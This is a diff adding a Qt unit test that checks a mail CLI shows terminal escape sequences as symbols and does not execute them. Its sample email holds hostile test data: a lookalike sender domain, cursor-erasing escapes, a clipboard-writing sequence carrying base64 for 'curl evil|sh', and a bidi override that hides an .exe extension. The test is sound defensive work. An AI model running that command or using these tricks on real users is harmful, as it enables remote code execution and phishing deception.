@@ -35,6 +35,7 @@ class TestMessageCli : public QObject
 private Q_SLOTS:
     void initTestCase();
     void everyMessageIsShownAsTheModelReadsIt();
+    void terminalSequencesAreShownNotRun();
 
 private:
     CliRun cli(const QStringList &arguments, const QByteArray &input = {});
@@ -128,6 +129,42 @@ void TestMessageCli::everyMessageIsShownAsTheModelReadsIt()
         }
     }
     QVERIFY(hostile >= 20);
+}
+
+void TestMessageCli::terminalSequencesAreShownNotRun()
+{
+    // A subject that writes the clipboard (OSC 52), a sender name that moves the cursor up and
+    // erases the warning line, a body and a file name with escapes and a bidi override (issue 16).
+    const QByteArray raw = "From: \"Rectorat\x1b[1A\x1b[2K\" <ce.rectorat@ac-amlens.fr>\r\n"
+                           "To: marie.dupont@ac-amiens.fr\r\n"
+                           "Subject: Facture \x1b]52;c;Y3VybCBldmlsfHNo\x07 impayee\r\n"
+                           "Date: Fri, 4 Dec 2026 10:00:00 +0100\r\nMessage-ID: <escapes@example.fr>\r\n"
+                           "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+                           "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+                           "Bonjour,\x1b[2J\x1b]0;titre\x07 voir la facture.\r\n--b\r\n"
+                           "Content-Type: application/pdf; name=\"facture\xe2\x80\xae"
+                           "fdp.exe\"\r\n"
+                           "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n";
+    const MailServerControl server(m_env.user);
+    const quint32 uid = server.save(kFolder, raw);
+    QVERIFY(uid > 0);
+    const CliRun synced = cli({u"sync"_s, u"--bodies"_s, u"all"_s});
+    QVERIFY2(synced.exitCode == 0, qPrintable(synced.err));
+
+    const CliRun show = cli({u"show"_s, kFolder, QString::number(uid)});
+    QVERIFY2(show.exitCode == 0, qPrintable(show.err));
+    const CliRun list = cli({u"list"_s, kFolder});
+    QVERIFY2(list.exitCode == 0, qPrintable(list.err));
+    for (const QString &output : {show.out, list.out}) {
+        QVERIFY2(!output.contains(QChar(0x1b)) && !output.contains(QChar(0x07)), qPrintable(output));
+        QVERIFY2(!output.contains(QChar(0x202E)), qPrintable(output));
+    }
+    QVERIFY2(show.out.contains(u"Facture \u241b]52;c;Y3VybCBldmlsfHNo\u2407 impayee"_s),
+             qPrintable(show.out));
+    QVERIFY2(show.out.contains(u"Bonjour,\u241b[2J"_s), qPrintable(show.out));
+    // The model drops the override from file names, so the real extension shows.
+    QVERIFY2(show.out.contains(u"facturefdp.exe"_s), qPrintable(show.out));
+    QVERIFY2(list.out.contains(u"Rectorat\u241b[1A\u241b[2K"_s), qPrintable(list.out));
 }
 
 QTEST_GUILESS_MAIN(TestMessageCli)
